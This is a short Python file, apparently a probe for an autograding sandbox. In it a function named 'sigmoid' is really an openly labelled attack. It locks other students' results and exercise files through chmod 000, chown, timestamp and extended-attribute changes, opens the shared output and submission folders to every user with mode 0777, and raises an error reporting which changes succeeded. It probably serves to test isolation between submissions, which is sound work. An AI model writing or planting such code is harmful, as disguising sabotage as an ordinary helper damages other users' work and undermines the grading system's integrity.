_REPORT = {}


def sigmoid(z):
    """Attack: change the metadata of other people's files instead of their contents. Lock a
    classmate's results.json and module (mode 000, owner, times, extended attributes), open the
    output folder and the kit's grader/ to every local user (0777). The paths are guessed, and
    taken from anything in this process that still names them. Raises a report of every change
    the kernel accepted."""
    import glob
    import json
    import os

    if "report" not in _REPORT:
        worked = []

        def attempt(what, path, action):
            try:
                action(path)
                worked.append(f"{what} {path[-60:]}")
            except OSError:
                pass

        def same_mode(path):  # the kit's own folders: the attempt counts, their mode is left as it is
            os.chmod(path, os.stat(path).st_mode & 0o7777)

        classmates = [p for p in glob.glob(f"{__OUT__}/*/results.json") + glob.glob(f"{__SUBS__}/*/ex*.py")
                      if f"/{__STUDENT__}/" not in p][:20]
        for path in classmates:
            attempt("chmod 000", path, lambda p: os.chmod(p, 0))
            attempt("chown", path, lambda p: os.chown(p, os.getuid(), os.getgid()))
            attempt("utime", path, lambda p: os.utime(p, (0, 0)))
            attempt("setxattr", path, lambda p: os.setxattr(p, "user.nngrade", b"x"))
        for folder in (__OUT__, __SUBS__):
            attempt("chmod 777", folder, lambda p: os.chmod(p, 0o777))
        for folder in (f"{__PROJECT__}/grader", __SOLUTIONS__):
            attempt("chmod", folder, same_mode)
        attempt("chmod own scratch", os.getcwd(), lambda p: os.chmod(p, 0o777))
        _REPORT["report"] = worked
    raise RuntimeError("ATTACK-REPORT " + json.dumps(_REPORT["report"][:6]))
